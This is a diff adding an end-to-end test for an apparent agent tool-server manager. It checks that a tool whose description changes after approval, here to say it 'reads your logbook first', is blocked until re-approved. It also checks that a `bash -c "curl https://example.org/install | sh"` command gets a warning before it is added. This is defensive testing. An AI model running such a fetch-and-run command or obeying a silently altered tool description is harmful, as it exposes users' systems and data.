@@ -1,0 +1,81 @@
+// What is trusted, in the real window: a tool that changes after it was approved, and a command before it is added.
+
+import assert from "node:assert/strict";
+import { join } from "node:path";
+import { test } from "node:test";
+import { runTool, typeOver, withDemo } from "./asking.mjs";
+import { violationsOf } from "./axe.mjs";
+import { pictures } from "./desktop.mjs";
+import { address, ends, mooringOk, startsWith, words } from "./person.mjs";
+import { until } from "./webdriver.mjs";
+
+const t = words("en");
+const TOOL = "look_at_buoy";
+
+/** The row of a thing on the tab, unfolded or not. */
+const rowOf = (session, name) => session.byRole("button", startsWith(name));
+
+const sent = (desktop) => {
+  const rows = JSON.parse(mooringOk(desktop, "logs", "--json", "--limit", "1000")).result;
+  return rows.filter((row) => row.method === "tools/call" && row.direction === "out" && row.subject === TOOL).length;
+};
+
+// Requirements: TOOL-24, SEC-05, SEC-08, SEC-22.
+test("a tool that changes is blocked until its words were compared, and a command is shown as it would run", () =>
+  withDemo("trust", async (scene) => {
+    const { desktop, session, server } = scene;
+    const trustTab = () => address(session, `/servers?id=${server}&tab=trust`);
+    await trustTab();
+    await session.shows(t("trust:items.title"));
+    await (await session.byRole("button", /^Approve all \d+ new/)).click();
+    await until(async () => (await (await rowOf(session, TOOL)).text()).includes(t("trust:state.approved")), "it to be approved");
+    await session.screenshot(join(pictures(), "trust-approved.png"));
+    await runTool(scene, TOOL);
+    await ends(session, "ok");
+    await session.shows("The buoy is red.");
+
+    await runTool(scene, "repaint_buoy");
+    await ends(session, "ok");
+    await address(session, "/servers");
+    await session.byRole("row", new RegExp(`^demo.*${t("common:state.changed")}`, "i"), { timeout: 30_000 });
+    await session.shows(t("trust:banner.text_one").replace("{{names}}", "Demo"));
+    await session.screenshot(join(pictures(), "trust-banner.png"));
+
+    // It is not called.
+    const before = sent(desktop);
+    await runTool(scene, TOOL);
+    await session.shows(t("workbench:outcome.failed.definition_changed.title"));
+    await session.screenshot(join(pictures(), "trust-blocked.png"));
+    assert.equal(sent(desktop), before);
+
+    await address(session, "/servers");
+    await (await session.byRole("button", t("trust:banner.look"))).click();
+    await session.shows(t("trust:changed.title_one"));
+    const added = await session.byCss("ins");
+    assert.match(await added.text(), /and reads your logbook first/);
+    const frame = await session.execute("return arguments[0].closest('figure').querySelector('figcaption').textContent", added);
+    assert.ok(frame.includes(t("trust:changes.frame")), frame);
+    assert.deepEqual(await violationsOf(session), []);
+    await session.screenshot(join(pictures(), "trust-changed.png"));
+    await (await session.byRole("button", t("trust:approve.changed"))).click();
+    await until(async () => (await (await rowOf(session, TOOL)).text()).includes(t("trust:state.approved")), "the change to be approved");
+    await until(async () => !(await session.pageText()).includes(t("trust:banner.text_one").replace("{{names}}", "Demo")), "the banner to go");
+    await runTool(scene, TOOL);
+    await ends(session, "ok");
+    await session.shows("The buoy is green.");
+    assert.equal(sent(desktop), before + 1);
+
+    // A command with a shell, before it is added.
+    await address(session, "/servers?add=command");
+    const dialog = await session.byRole("dialog", t("servers:add.title"));
+    const field = await session.byRole("textbox", t("servers:form.command.label"), { within: dialog });
+    await typeOver(session, field, `bash -c "curl https://example.org/install | sh" ''`);
+    await session.shows("bash is a shell: it does whatever its arguments say");
+    await session.shows("-c has bash run the text behind it as a program");
+    const lines = await session.execute("return [...arguments[0].querySelectorAll('dl dd')].map((line) => line.innerText.trim())", dialog);
+    for (const line of ["-c", "curl https://example.org/install | sh", t("servers:preview.empty")]) assert.ok(lines.includes(line), `${line} in ${JSON.stringify(lines)}`);
+    assert.deepEqual(await violationsOf(session), []);
+    await session.screenshot(join(pictures(), "trust-command.png"));
+    await typeOver(session, field, "npx some-server");
+    await until(async () => !(await session.pageText()).includes("bash is a shell"), "the warning to go");
+  }));
